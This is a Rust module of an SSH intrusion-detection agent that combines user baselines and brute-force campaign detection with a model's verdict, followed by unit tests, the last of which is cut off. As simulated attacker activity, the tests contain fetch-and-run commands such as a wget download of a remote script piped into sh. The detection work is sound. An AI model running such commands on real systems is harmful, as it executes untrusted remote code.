//! Detection beyond the model: the per-entity [`baselines`](crate::baseline)
//! and the [`campaign`](crate::campaign) detectors, joined to one observation
//! at a time. [`crate::engine::Engine`] calls them in the one right order
//! (attempts up to an observation's end, then assess, score, judge); nothing
//! else should.
//!
//! The final verdict is the model's, raised to Suspicious when the baselines
//! or a campaign say so: a risky command the user never ran together with a
//! new network, a rare hour or an unknown user; a login or a source that
//! belongs to a detected brute-force campaign. It is lowered in one case: a
//! source window whose address only logged in, none of its sessions flagged
//! (they carry the verdict). Only sessions whose final verdict is Normal,
//! from sources in no campaign, are learnt.

use std::collections::HashMap;
use std::net::IpAddr;
use std::path::Path;

use bfp_common::schema::AGENT_FEATURE_COUNT;
use bfp_common::Verdict;
use bfp_logs::analyze::{Observation, RecordKind};
use bfp_logs::parse::AuthMethod;
use bfp_logs::source::{DeviceStats, SourceStats};
use bfp_logs::AuthAttempt;
use serde::{Deserialize, Serialize};

use crate::baseline::{BaselineConfig, Baselines, Novelty, SessionFacts};
use crate::campaign::{CampaignAlert, CampaignConfig, CampaignDetector, CampaignKind};
use crate::error::Result;
use crate::features::{self, SourceContext};
use crate::privilege::Escalation;

/// Distributed campaigns remembered, to mark the analyzer's device windows.
const RECENT_CAMPAIGNS: usize = 16;
/// Addresses whose latest Suspicious session is remembered, for their source
/// windows (forgotten all at once past this: bounded memory on a honeypot).
const FLAGGED_SESSIONS: usize = 4096;
/// Failed logins from an address in the last day (a user's forgiven typos
/// excluded) after which a login from it is a brute force that got in,
/// when it tried more than one user name...
const BRUTE_FORCE_FAILURES: u32 = 10;
/// ...or this many whatever the names: nobody mistypes their own password
/// twenty times.
const BRUTE_FORCE_FAILURES_ONE_USER: u32 = 20;

/// Configuration of the detectors (a section of the agent's config).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct DetectConfig {
    /// Per-user and per-device baselines. Defaults: see [`BaselineConfig`].
    pub baseline: BaselineConfig,
    /// Slow and distributed brute force. Defaults: see [`CampaignConfig`].
    pub campaign: CampaignConfig,
    /// Hours of log time, from the first line judged, during which a device
    /// that starts without history (fewer than `baseline.min_sessions`
    /// sessions learnt, e.g. a fresh install no `learn` ran on) only learns
    /// what is usual: novelty alone never makes a verdict Suspicious and
    /// records say `learning`, while evidence that needs no history
    /// (failures, campaigns, refused privilege escalation, the model on the
    /// session's own features) still counts. Default 24 (a day shows every
    /// daily habit once); 0 turns the learning period off.
    pub learning_hours: u32,
}

impl Default for DetectConfig {
    fn default() -> Self {
        DetectConfig {
            baseline: BaselineConfig::default(),
            campaign: CampaignConfig::default(),
            learning_hours: DEFAULT_LEARNING_HOURS,
        }
    }
}

/// Default of [`DetectConfig::learning_hours`].
pub const DEFAULT_LEARNING_HOURS: u32 = 24;

/// Where a detector is in its learning period (the agent keeps it in its
/// checkpoint, so a restart neither ends nor restarts the period).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Learning {
    /// Nothing judged yet: whether to learn first is decided at the first
    /// line judged (so history learnt before it counts).
    Undecided,
    /// Learning until this log time (unix seconds).
    Until(i64),
    /// Judging novelty: the device had history, the period ended, or it is off.
    Off,
}

/// The final word on one observation.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Judgement {
    /// The model's verdict, or Suspicious when the detectors raised it.
    pub suspicious: bool,
    /// Probability of the predicted class, in [0.5, 1]. When the detectors
    /// raised a Normal verdict, this is the model's own probability of
    /// Suspicious (floored at 0.5): a rule, not the model, decided.
    pub confidence: f32,
    /// The detectors raised the model's Normal to Suspicious.
    pub escalated: bool,
    /// The detectors cleared the model's Suspicious: a source window whose
    /// address did nothing but log in (see [`Detector::judge_assessed`]).
    #[serde(default)]
    pub cleared: bool,
    /// The detectors' reasons, to put before the model's.
    pub reasons: Vec<String>,
    /// The session's novelty against its user's baseline (sessions only).
    pub novelty: Option<Novelty>,
    /// The campaign the source belongs to, if any.
    pub campaign: Option<CampaignKind>,
    /// The session was learnt into its user's baseline.
    pub learnt: bool,
    /// Judged during the learning period (see
    /// [`DetectConfig::learning_hours`]): novelty did not count.
    pub learning: bool,
    /// The rules whose condition held, whether or not the session-rule
    /// setting let them raise the verdict (training measures each rule's
    /// precision on them: [`Rule::confidence`]).
    #[serde(default)]
    pub fired: Vec<Rule>,
}

/// A rule of the detectors that raises a verdict to Suspicious on its own.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Rule {
    /// A login from an address of a brute-force campaign (schema-1 models only).
    CampaignLogin,
    /// A login after many failures from its address in the last day.
    BruteForceLogin,
    /// A dangerous command attempted through a refused sudo or su, or three
    /// refusals ([`Escalation::is_evidence`]).
    RefusedEscalation,
    /// An account arriving from network after network within a day.
    AccountChurn,
    /// A first root shell or account change with something else new
    /// ([`Novelty::escalation_is_new`]).
    NewEscalation,
    /// A risky command the user never ran, with a new network, a rare hour
    /// or an unknown user (schema-1 models only).
    RiskyFirst,
    /// A source window of an address in a brute-force campaign.
    CampaignSource,
    /// A device window a distributed brute force fell in.
    CampaignDevice,
}

impl Rule {
    /// Every rule, in table order.
    pub const ALL: [Rule; 8] = [
        Rule::CampaignLogin,
        Rule::BruteForceLogin,
        Rule::RefusedEscalation,
        Rule::AccountChurn,
        Rule::NewEscalation,
        Rule::RiskyFirst,
        Rule::CampaignSource,
        Rule::CampaignDevice,
    ];

    /// Short name for tables.
    pub fn name(self) -> &'static str {
        match self {
            Rule::CampaignLogin => "campaign_login",
            Rule::BruteForceLogin => "brute_force_login",
            Rule::RefusedEscalation => "refused_escalation",
            Rule::AccountChurn => "account_churn",
            Rule::NewEscalation => "new_escalation",
            Rule::RiskyFirst => "risky_first",
            Rule::CampaignSource => "campaign_source",
            Rule::CampaignDevice => "campaign_device",
        }
    }

    /// The confidence of a verdict this rule raised over the model's
    /// Normal: how often such verdicts are attacks, measured where the rule
    /// decides (the training timelines' devices in folds, each run through
    /// the agent's loop with a forest trained without it), smoothed as
    /// (attacks + 1) / (raised + 2) and kept in [0.5, 0.995] like the
    /// model's. `bfp-models train` measures it and writes it in the model
    /// card; the models' tests fail when these figures are stale.
    ///
    /// Today every rule is at the floor: where the model already says
    /// Suspicious its calibrated confidence stands, and the verdicts a rule
    /// adds over the model's Normal were attacks in 1 of 132 simulated
    /// cases. A rule-raised verdict therefore ranks below every verdict the
    /// model raised, which is what the simulated record supports; the rules
    /// stay for what the simulator lacks (a honeypot's logins, an
    /// escalation the model misses).
    pub fn confidence(self) -> f32 {
        match self {
            // Raised 73 times over the model (schema-1 setting), no attack.
            Rule::CampaignLogin => 0.5,
            // Raised 16 times, no attack.
            Rule::BruteForceLogin => 0.5,
            // Raised 3 times, 1 attack (and an admin's refused download).
            Rule::RefusedEscalation => 0.5,
            // Never raised there: nothing says it is right more often than not.
            Rule::AccountChurn => 0.5,
            // Raised once, no attack.
            Rule::NewEscalation => 0.5,
            // Raised 17 times (schema-1 setting), no attack.
            Rule::RiskyFirst => 0.5,
            // Raised 22 times, no attack.
            Rule::CampaignSource => 0.5,
            Rule::CampaignDevice => 0.5,
        }
    }
}

/// What the detectors know of one observation before the model scores it:
/// its novelty against the user's baseline, its source context, the
/// privilege escalation in its commands, and the three as the agent
/// schema's feature vector ([`features::vector`]).
#[derive(Debug, Clone, PartialEq)]
pub struct Assessment {
    /// The session's novelty (sessions with a user only).
    pub novelty: Option<Novelty>,
    /// What the device holds against the observation's address.
    pub context: SourceContext,
    /// The privilege escalation in the session's commands (empty for a window).
    pub escalation: Escalation,
    /// The agent schema's feature vector.
    pub features: [f32; AGENT_FEATURE_COUNT],
    /// A source or device window rather than a session: its duration and
    /// failures are the window's (reasons word them so).
    pub window: bool,
    /// In the learning period: the vector holds no novelty.
    pub learning: bool,
    /// The first login of an account the device has never seen, by a key
    /// accepted at the first try from an address with no failures, with
    /// nothing risky or refused in it: its vector holds no novelty of who or
    /// where, as in the learning period (see [`Detector::assess`]).
    pub newcomer: bool,
}

/// Which session-level rules may raise a session's verdict (source- and
/// device-level campaign alerts are always raised).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum SessionRules {
    /// All of them: a login from a campaign's address; a risky command the
    /// user never ran with a new network, a rare hour or an unknown user; an
    /// account arriving from network after network. For a schema-1 model,
    /// which sees none of this.
    #[default]
    All,
    /// Only the account arriving from network after network within a day
    /// (what a schema-2 model still misses on the honeypot's logs; the
    /// others it sees as features, and on top of it they only added false
    /// positives: see docs/detection.md).
    AccountChurn,
    /// None: the model's verdict stands for sessions.
    Off,
}

/// Baselines and campaign detectors of one device.
#[derive(Debug, Clone)]
pub struct Detector {
    baselines: Baselines,
    campaigns: CampaignDetector,
    /// Start and end of recent distributed campaigns.
    recent: Vec<(i64, i64)>,
    /// Per address, when a session from it was last judged Suspicious (log
    /// time of the session's start).
    flagged_sessions: HashMap<IpAddr, i64>,
    /// Sessions learnt since start (tells when the baselines need saving).
    learnt: u64,
    /// See [`Detector::set_session_rules`].
    session_rules: SessionRules,
    /// See [`DetectConfig::learning_hours`].
    learning_hours: u32,
    learning: Learning,
}

impl Detector {
    /// Fresh detectors.
    pub fn new(config: DetectConfig) -> Self {
        Detector::with_baselines(Baselines::new(config.baseline), config.campaign, config.learning_hours)
    }

    /// Detectors around baselines loaded from a state file; `learning_hours`
    /// as [`DetectConfig::learning_hours`].
    pub fn with_baselines(baselines: Baselines, campaign: CampaignConfig, learning_hours: u32) -> Self {
        Detector {
            baselines,
            campaigns: CampaignDetector::new(campaign),
            recent: Vec::new(),
            flagged_sessions: HashMap::new(),
            learnt: 0,
            session_rules: SessionRules::All,
            learning_hours,
            learning: Learning::Undecided,
        }
    }

    /// Starts the learning period at log time `at` if this is the first
    /// line judged and the device has no history; ends it once `at` is past.
    /// The engine calls it before each observation is assessed.
    pub fn note_time(&mut self, at: i64) {
        self.learning = match self.learning {
            Learning::Undecided if self.learning_hours > 0 && !self.baselines.has_history() => {
                Learning::Until(at.saturating_add(i64::from(self.learning_hours) * 3600))
            }
            Learning::Undecided => Learning::Off,
            Learning::Until(end) if at >= end => Learning::Off,
            other => other,
        };
    }

    /// Where the learning period stands (to save it with the baselines).
    pub fn learning(&self) -> Learning {
        self.learning
    }

    /// Resumes a learning period saved before a restart. With
    /// `learning_hours` now 0 the period is off, whatever was saved.
    pub fn resume_learning(&mut self, saved: Learning) {
        self.learning = if self.learning_hours == 0 { Learning::Off } else { saved };
    }

    /// Whether an observation at log time `at` falls in the learning period.
    pub fn is_learning(&self, at: i64) -> bool {
        match self.learning {
            Learning::Undecided => self.learning_hours > 0 && !self.baselines.has_history(),
            Learning::Until(end) => at < end,
            Learning::Off => false,
        }
    }

    /// Learns one session of the device's past into its user's baseline,
    /// without judging it (bootstrapping from rotated logs, the journal,
    /// wtmp): sessions of sources in a campaign and sessions with a refused
    /// privilege escalation are not learnt. Returns whether it was.
    pub fn learn_past(&mut self, obs: &Observation) -> bool {
        if obs.kind != RecordKind::Session || obs.source_ip.is_some_and(|ip| self.campaigns.campaign_of(ip).is_some()) {
            return false;
        }
        let Some(user) = obs.user.as_deref() else { return false };
        if Escalation::of(&obs.commands).refused > 0 {
            return false;
        }
        let facts = SessionFacts::new(user, obs.source_ip, obs.start, &obs.fingerprint, &obs.commands, obs.open);
        let learnt = self.baselines.learn(&facts, false);
        self.learnt += u64::from(learnt);
        learnt
    }

    /// Loads the baselines from `path` (see [`Baselines::load_or_fresh`]):
    /// a missing file is a first start; an unreadable one is reported beside
    /// fresh baselines, never a crash.
    pub fn load_or_fresh(path: &Path, config: DetectConfig) -> (Self, Option<crate::Error>) {
        let (baselines, err) = Baselines::load_or_fresh(path, config.baseline);
        (Detector::with_baselines(baselines, config.campaign, config.learning_hours), err)
    }

    /// Writes the baselines' state (campaign windows are not persisted:
    /// after a restart they refill from the log lines that follow).
    pub fn save(&self, out: &mut dyn std::io::Write) -> Result<()> {
        self.baselines.save(out)
    }

    /// Sessions learnt since this detector was made: when it moved, the
    /// baselines changed and are worth saving.
    pub fn learnt(&self) -> u64 {
        self.learnt
    }

    /// The baselines.
    pub fn baselines(&self) -> &Baselines {
        &self.baselines
    }

    /// The campaign detectors.
    pub fn campaigns(&self) -> &CampaignDetector {
        &self.campaigns
    }

    /// Feeds the analyzer's authentication attempts (in log order) to the
    /// campaign detectors and the device's failure and login rates. Returns
    /// the campaigns detected.
    pub fn observe_attempts(&mut self, attempts: &[AuthAttempt]) -> Vec<CampaignAlert> {
        for a in attempts {
            self.campaigns.observe(a);
            if a.success {
                self.baselines.observe_login(a.at);
            } else {
                self.baselines.observe_failures(a.at, a.count.max(1));
            }
        }
        let alerts = self.campaigns.drain_alerts();
        for a in alerts.iter().filter(|a| a.kind == CampaignKind::DistributedBruteForce) {
            if self.recent.len() == RECENT_CAMPAIGNS {
                self.recent.remove(0);
            }
            self.recent.push((a.start, a.end));
        }
        alerts
    }

    /// Feeds attempts from lines re-read after a restart (already reported
    /// before it): they rebuild the campaign windows, which are not
    /// persisted, but raise no alert and are not counted again in the
    /// device's rates, which are.
    pub fn replay_attempts(&mut self, attempts: &[AuthAttempt]) {
        for a in attempts {
            self.campaigns.observe(a);
        }
        for a in self.campaigns.drain_alerts() {
            if a.kind == CampaignKind::DistributedBruteForce {
                self.recent.push((a.start, a.end));
                if self.recent.len() > RECENT_CAMPAIGNS {
                    self.recent.remove(0);
                }
            }
        }
    }

    /// The novelty, source context and privilege escalation of one
    /// observation, and its agent-schema feature vector: what the agent's
    /// model scores. Call after feeding the
    /// attempts up to the observation's end ([`Detector::observe_attempts`]),
    /// before [`Detector::judge_assessed`]. Learns nothing.
    ///
    /// In the learning period the model sees the session as on a device
    /// without history (novelty unknown or 0, the network's users unknown):
    /// what is new on a device that knows nothing yet is not news. A session
    /// whose address never failed is not judged by the other addresses
    /// failing against the device (its `device_failing_sources` is 0): the
    /// attack around a clean login says nothing of it.
    ///
    /// After the learning period, the first login of an account the device
    /// has never seen is judged the same way (novelty hidden) when nothing
    /// else is wrong with it: a key accepted at the first try (no failure
    /// before it, none from its address in the last day), no campaign, no
    /// risky command, no refused, root-shell or account-changing command, no
    /// churn. A key the server accepts was installed in the account by its
    /// owner or an admin: such an account was provisioned, it has no habits
    /// to differ from, and "first login by U" and "a network no user of this
    /// device comes from" say only that it is new, which every account is
    /// once (a new colleague, a contractor); what the session did still
    /// counts. Not for passwords: bots with default or leaked passwords get
    /// in at the first try too. A stolen account is a known one (its new
    /// network still counts).
    pub fn assess(&self, obs: &Observation) -> Assessment {
        let learning = self.is_learning(obs.start);
        let novelty = match (obs.kind, obs.user.as_deref()) {
            (RecordKind::Session, Some(user)) => {
                let facts =
                    SessionFacts::new(user, obs.source_ip, obs.start, &obs.fingerprint, &obs.commands, obs.open);
                Some(self.baselines.novelty(&facts))
            }
            _ => None,
        };
        let judged_history = self.baselines.has_history() && !learning;
        let mut context = match obs.source_ip {
            Some(ip) => SourceContext::new(
                &self.campaigns.source_summary(ip),
                self.campaigns.failing_sources_last_hour(),
                judged_history.then(|| self.baselines.users_from_network(ip)),
            ),
            None => SourceContext {
                device_failing_sources: self.campaigns.failing_sources_last_hour(),
                ..SourceContext::default()
            },
        };
        let session = obs.kind == RecordKind::Session;
        let escalation = if session { Escalation::of(&obs.commands) } else { Escalation::default() };
        let clean = session && context.failures_last_day == 0 && obs.fingerprint.failed_logins == 0;
        if clean {
            context.device_failing_sources = 0;
        }
        let newcomer = clean
            && !learning
            && !context.in_campaign
            && novelty.as_ref().is_some_and(|n| n.never_seen_user && n.device_has_history && !n.network_churn)
            && obs.session.as_ref().is_some_and(|s| s.auth_method == AuthMethod::Publickey)
            && obs.fingerprint.risky_commands.unwrap_or(0) == 0
            && escalation.is_clean();
        if newcomer {
            context.known_users_from_network = None;
        }
        let features = match (&novelty, learning || newcomer) {
            (Some(n), true) => {
                // What a day of the device's own lines shows stays: an
                // account arriving from network after network, spikes.
                let unknown = Novelty {
                    never_seen_user: true,
                    device_has_history: false,
                    failure_spike: n.failure_spike,
                    login_spike: n.login_spike,
                    network_churn: n.network_churn,
                    ..Novelty::default()
                };
                features::vector(&obs.fingerprint, Some(&unknown), &context, &escalation)
            }
            _ => features::vector(&obs.fingerprint, novelty.as_ref(), &context, &escalation),
        };
        Assessment { novelty, context, escalation, features, window: !session, learning, newcomer }
    }

    /// Which session-level rules may raise a session's verdict. All by
    /// default, for a schema-1 model that cannot see novelty; the agent
    /// with its schema-2 or schema-3 model keeps only [`SessionRules::AccountChurn`]
    /// (see docs/detection.md for the measurement).
    pub fn set_session_rules(&mut self, rules: SessionRules) {
        self.session_rules = rules;
    }

    /// Judges one observation given the model's verdict, and learns it into
    /// the user's baseline when the final verdict is Normal.
    pub fn judge(&mut self, obs: &Observation, verdict: &Verdict) -> Judgement {
        self.note_time(obs.start);
        let assessment = self.assess(obs);
        self.judge_assessed(obs, verdict, assessment)
    }

    /// As [`Detector::judge`], with the assessment the model scored.
    pub fn judge_assessed(&mut self, obs: &Observation, verdict: &Verdict, assessment: Assessment) -> Judgement {
        let mut reasons = Vec::new();
        let campaign = obs.source_ip.and_then(|ip| self.campaigns.campaign_of(ip));
        // Every rule whose condition holds, and of those the ones the
        // session-rule setting lets raise the verdict.
        let mut fired = Vec::new();
        let mut raised = Vec::new();
        let mut fire = |rule: Rule, allowed: bool| {
            fired.push(rule);
            if allowed {
                raised.push(rule);
            }
        };
        let rules = self.session_rules;
        let novelty = assessment.novelty;
        let learning = assessment.learning;
        let newcomer = assessment.newcomer;
        let mut refused = false;
        let mut only_logged_in = false;
        match obs.kind {
            RecordKind::Session => {
                if let (Some(kind), Some(ip)) = (campaign, obs.source_ip) {
                    fire(Rule::CampaignLogin, rules == SessionRules::All);
                    reasons.push(format!("login from {ip}, which ran a {} against this device", campaign_words(kind)));
                }
                // A brute force that got in needs no history either.
                let c = &assessment.context;
                if (c.failures_last_day >= BRUTE_FORCE_FAILURES && c.users_tried >= 2)
                    || c.failures_last_day >= BRUTE_FORCE_FAILURES_ONE_USER
                {
                    fire(Rule::BruteForceLogin, rules != SessionRules::Off);
                    if let Some(ip) = obs.source_ip.filter(|_| campaign.is_none() && rules != SessionRules::Off) {
                        reasons.push(format!(
                            "login from {ip} after {} failed logins from it in the last day ({} user names tried)",
                            c.failures_last_day, c.users_tried
                        ));
                    }
                }
                // Refused escalation needs no history: it counts while learning too.
                let privilege = &assessment.escalation;
                refused = privilege.refused > 0;
                if privilege.is_evidence() {
                    fire(Rule::RefusedEscalation, rules != SessionRules::Off);
                }
                if privilege.refused > 0 {
                    reasons.extend(privilege.reasons().into_iter().take(1));
                }
                if let (true, Some(user)) = (newcomer, obs.user.as_deref()) {
                    reasons.push(format!(
                        "first login by {user} on this device, by key at the first try and with nothing risky: judged on what the session did"
                    ));
                } else if let Some(n) = novelty.as_ref().filter(|_| !learning) {
                    if n.network_churn {
                        fire(Rule::AccountChurn, rules != SessionRules::Off);
                    }
                    if n.escalation_is_new() {
                        fire(Rule::NewEscalation, rules != SessionRules::Off);
                    }
                    if n.escalates() && !n.network_churn && !n.escalation_is_new() {
                        fire(Rule::RiskyFirst, rules == SessionRules::All);
                    }
                    reasons.extend(n.reasons.iter().cloned());
                } else if let Some(n) = novelty.as_ref().filter(|n| n.network_churn) {
                    // An account used from network after network within the
                    // day needs no longer history: it counts while learning.
                    fire(Rule::AccountChurn, rules != SessionRules::Off);
                    reasons.extend(n.reasons.iter().filter(|r| r.contains("networks new to them")).cloned());
                }
            }
            RecordKind::Source => {
                if let (Some(kind), Some(ip)) = (campaign, obs.source_ip) {
                    fire(Rule::CampaignSource, true);
                    reasons.push(format!("{ip} is part of a {} against this device", campaign_words(kind)));
                } else if only_logins(obs, &assessment.context) && self.no_session_flagged(obs) {
                    only_logged_in = true;
                    reasons
                        .push("only successful logins from this address, each judged in its own session".to_string());
                }
            }
            RecordKind::Device => {
                let end = obs.end.unwrap_or(i64::MAX);
                if let Some(&(start, _)) = self.recent.iter().find(|(s, e)| *s <= end && *e >= obs.start) {
                    fire(Rule::CampaignDevice, true);
                    let when = start - obs.start;
                    reasons.push(format!(
                        "a distributed brute force hit this device {} min into this window",
                        when.max(0) / 60
                    ));
                }
            }
        }
        let escalate = !raised.is_empty();
        let escalated = escalate && !verdict.suspicious;
        // A source window whose address only logged in (no failure it was not
        // forgiven, no invalid user, no probe, no campaign) holds nothing but
        // its sessions, each judged with its user's history: the window's
        // vector knows less than they do (no user, so no habit), and the model
        // on it flagged clean newcomers for the device's background and for
        // networks new to the device. The sessions decide: unless one of them
        // was already judged Suspicious (a honeypot's logins), the window is
        // Normal; a session still open is judged on its own record when it ends.
        let cleared = only_logged_in && verdict.suspicious && !escalate;
        let suspicious = (verdict.suspicious && !cleared) || escalate;
        let confidence = if escalated {
            // A rule decided: how often its verdict is right (the most
            // confident of the rules that raised it), or the model's own
            // probability of Suspicious when that is higher.
            raised.iter().map(|r| r.confidence()).fold(1.0 - verdict.confidence, f32::max).max(0.5)
        } else if cleared {
            // The model's probability of the other class, floored at 0.5.
            (1.0 - verdict.confidence).max(0.5)
        } else {
            verdict.confidence
        };
        if let (RecordKind::Session, Some(ip), true) = (obs.kind, obs.source_ip, suspicious) {
            if self.flagged_sessions.len() >= FLAGGED_SESSIONS && !self.flagged_sessions.contains_key(&ip) {
                self.flagged_sessions.clear();
            }
            let seen = self.flagged_sessions.entry(ip).or_insert(i64::MIN);
            *seen = (*seen).max(obs.start);
        }
        let mut learnt = false;
        // A refused escalation is nobody's habit, whatever the verdict.
        if obs.kind == RecordKind::Session && campaign.is_none() && !refused {
            if let Some(user) = obs.user.as_deref() {
                let facts =
                    SessionFacts::new(user, obs.source_ip, obs.start, &obs.fingerprint, &obs.commands, obs.open);
                learnt = self.baselines.learn(&facts, suspicious);
                self.learnt += u64::from(learnt);
            }
        }
        Judgement { suspicious, confidence, escalated, cleared, reasons, novelty, campaign, learnt, learning, fired }
    }

    /// Whether no session from a source window's address was judged
    /// Suspicious since the window started (one still open is judged when it
    /// ends, on its own record).
    fn no_session_flagged(&self, obs: &Observation) -> bool {
        obs.source_ip.and_then(|ip| self.flagged_sessions.get(&ip)).is_none_or(|&flagged| flagged < obs.start)
    }

    /// A campaign alert as an observation (kind `source` for a slow brute
    /// force, `device` for a distributed one), so it is reported, forwarded
    /// and stored like the analyzer's own. [`Detector::judge`] marks it
    /// Suspicious; [`CampaignAlert::reasons`] says why.
    pub fn alert_observation(alert: &CampaignAlert, utc_offset_secs: i32) -> Observation {
        let fingerprint = alert.fingerprint(utc_offset_secs);
        let hours = ((alert.end - alert.start).max(60) as f32) / 3600.0;
        let per_hour = alert.failed_logins as f32 / hours;
        let (kind, source, device) = match alert.kind {
            CampaignKind::SlowBruteForce => (
                RecordKind::Source,
                Some(SourceStats {
                    failed_logins: alert.failed_logins,
                    invalid_user_attempts: alert.invalid_user_attempts,
                    distinct_users: alert.distinct_users,
                    users_sample: Vec::new(),
                    successes: 0,
                    success_after_failures: false,
                    attempts_per_hour: per_hour,
                    connections: 0,
                    probes: 0,
                    protocols: vec![alert.protocol],
                }),
                None,
            ),
            CampaignKind::DistributedBruteForce => (
                RecordKind::Device,
                None,
                Some(DeviceStats {
                    failed_logins: alert.failed_logins,
                    failing_sources: alert.sources,
                    quiet_sources: 0,
                    distinct_users: alert.distinct_users,
                    successes: 0,
                    successes_after_failures: 0,
                    attempts_per_hour: per_hour,
                }),
            ),
        };
        Observation {
            kind,
            source_ip: alert.source_ip,
            user: None,
            start: alert.start,
            end: Some(alert.end),
            open: false,
            fingerprint,
            commands: Vec::new(),
            session: None,
            source,
            device,
        }
    }
}

/// A source window whose address only logged in: successful logins, no
/// failure in the window or in the last day that was not forgiven as a
/// user's typo, no invalid user, no probe.
fn only_logins(obs: &Observation, context: &SourceContext) -> bool {
    obs.source.as_ref().is_some_and(|s| {
        s.successes > 0
            && s.invalid_user_attempts == 0
            && s.probes == 0
            && context.failures_last_day == 0
            && !context.in_campaign
    })
}

fn campaign_words(kind: CampaignKind) -> &'static str {
    match kind {
        CampaignKind::SlowBruteForce => "slow brute force",
        CampaignKind::DistributedBruteForce => "distributed brute force",
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use bfp_common::schema::PREDICT_FEATURE_COUNT as FEATURE_COUNT;
    use bfp_logs::analyze::{Analyzer, AnalyzerConfig, LogFormat};
    use bfp_testkit::{alice_history, sshd_session};

    fn verdict(suspicious: bool, confidence: f32) -> Verdict {
        Verdict::flat(suspicious, confidence, FEATURE_COUNT)
    }

    /// Runs `lines` through the analyzer and the detector, as the agent
    /// does, with a model that always says Normal (so every Suspicious below
    /// comes from the detectors).
    fn run(detector: &mut Detector, lines: &[String]) -> (Vec<CampaignAlert>, Vec<(Observation, Judgement)>) {
        let config = AnalyzerConfig { reference_time: Some(1_796_083_200), ..AnalyzerConfig::default() };
        let mut analyzer = Analyzer::new(config);
        analyzer.record_auth_attempts();
        let mut alerts = Vec::new();
        let mut judged = Vec::new();
        let mut take = |analyzer: &mut Analyzer, obs: Vec<Observation>, detector: &mut Detector| {
            alerts.extend(detector.observe_attempts(&analyzer.drain_auth_attempts()));
            for o in obs {
                let j = detector.judge(&o, &verdict(false, 0.8));
                judged.push((o, j));
            }
        };
        for line in lines {
            analyzer.feed_line(line, LogFormat::Syslog);
            let obs = analyzer.drain_ready();
            take(&mut analyzer, obs, detector);
        }
        let obs = analyzer.finish();
        take(&mut analyzer, obs, detector);
        (alerts, judged)
    }

    #[test]
    fn assess_builds_the_schema_two_vector_from_novelty_and_the_source_context() {
        let mut d = Detector::new(DetectConfig::default());
        let mut lines = alice_history();
        // A stranger tries three accounts from one address, then gets into alice's.
        for (i, user) in ["admin", "oracle", "alice"].iter().enumerate() {
            lines.push(format!(
                "Nov 16 03:00:0{i} host sshd[3000]: Failed password for {user} from 203.0.113.50 port 1 ssh2"
            ));
        }
        lines.extend(sshd_session(16, (3, 0), 3001, "alice", "203.0.113.50", 0, &["/usr/bin/wget http://x/a"]));
        let config = AnalyzerConfig { reference_time: Some(1_796_083_200), ..AnalyzerConfig::default() };
        let mut analyzer = Analyzer::new(config);
        analyzer.record_auth_attempts();
        let mut last = None;
        for line in &lines {
            analyzer.feed_line(line, LogFormat::Syslog);
            d.observe_attempts(&analyzer.drain_auth_attempts());
            for o in analyzer.drain_ready() {
                let a = d.assess(&o);
                if o.kind == RecordKind::Session {
                    d.judge_assessed(&o, &verdict(false, 0.9), a.clone());
                    last = Some((o, a));
                }
            }
        }
        let (obs, a) = last.unwrap();
        assert_eq!(obs.source_ip, Some("203.0.113.50".parse().unwrap()));
        assert_eq!(a.features, features::vector(&obs.fingerprint, a.novelty.as_ref(), &a.context, &a.escalation));
        // alice's own failure, followed by her success, is forgiven as a typo.
        assert_eq!(a.context.failures_last_day, 2);
        assert_eq!(a.context.users_tried, 3);
        assert_eq!(a.context.failure_hours, 1);
        assert!(!a.context.in_campaign);
        assert_eq!(a.context.known_users_from_network, Some(0), "no user came from 203.0.113.0/24");
        let n = a.novelty.as_ref().unwrap();
        assert!(n.new_network_for_user && n.rare_hour_for_user && n.first_risky_command);
        let at =
            |name: &str| a.features[bfp_common::schema::AGENT_FEATURE_NAMES.iter().position(|n| *n == name).unwrap()];
        assert_eq!((at("new_network_for_user"), at("source_users_tried")), (1.0, 3.0));
    }

    #[test]
    fn from_log_lines_a_mistyping_user_from_home_stays_normal() {
        let mut d = Detector::new(DetectConfig::default());
        let mut lines = alice_history();
        lines.extend(sshd_session(16, (10, 30), 2000, "alice", "198.51.100.99", 2, &["/bin/systemctl restart nginx"]));
        let (alerts, judged) = run(&mut d, &lines);
        assert!(alerts.is_empty());
        let sessions: Vec<_> = judged.iter().filter(|(o, _)| o.kind == RecordKind::Session).collect();
        assert_eq!(sessions.len(), 15);
        let (obs, last) = sessions.last().unwrap();
        assert_eq!(obs.fingerprint.failed_logins, 2);
        assert!(!last.suspicious && !last.escalated && last.reasons.is_empty(), "{last:?}");
        assert!(last.learnt);
        assert_eq!(d.baselines().sessions_of("alice"), 15);
    }

    #[test]
    fn from_log_lines_a_new_network_at_three_with_wget_pipe_sh_is_suspicious() {
        let mut d = Detector::new(DetectConfig::default());
        let mut lines = alice_history();
        lines.extend(sshd_session(
            16,
            (3, 0),
            2001,
            "alice",
            "203.0.113.50",
            0,
            &["/usr/bin/wget -qO- http://203.0.113.9/i.sh | sh"],
        ));
        let (_, judged) = run(&mut d, &lines);
        let (_, last) = judged.iter().rev().find(|(o, _)| o.kind == RecordKind::Session).unwrap();
        assert!(last.suspicious && last.escalated, "{last:?}");
        assert_eq!(last.confidence, 0.5, "the model said Normal: a rule decided");
        let n = last.novelty.as_ref().unwrap();
        assert!(n.new_network_for_user && n.rare_hour_for_user && n.first_risky_command);
        let all = last.reasons.join(" | ");
        assert!(all.contains("first login by alice from 203.0.113.0/24"), "{all}");
        assert!(all.contains("alice never logs in at 03:00"), "{all}");
        assert!(all.contains("piped a wget download into a shell, a first for alice"), "{all}");
        assert!(!last.learnt, "a suspicious session is not learnt");
        assert_eq!(d.baselines().sessions_of("alice"), 14);
    }

    #[test]
    fn with_only_the_account_churn_rule_a_risky_first_is_left_to_the_model() {
        let mut d = Detector::new(DetectConfig::default());
        d.set_session_rules(SessionRules::AccountChurn);
        let mut lines = alice_history();
        lines.extend(sshd_session(
            16,
            (3, 0),
            2001,
            "alice",
            "203.0.113.50",
            0,
            &["/usr/bin/wget -qO- http://x/i.sh | sh"],
        ));
        let (_, judged) = run(&mut d, &lines);
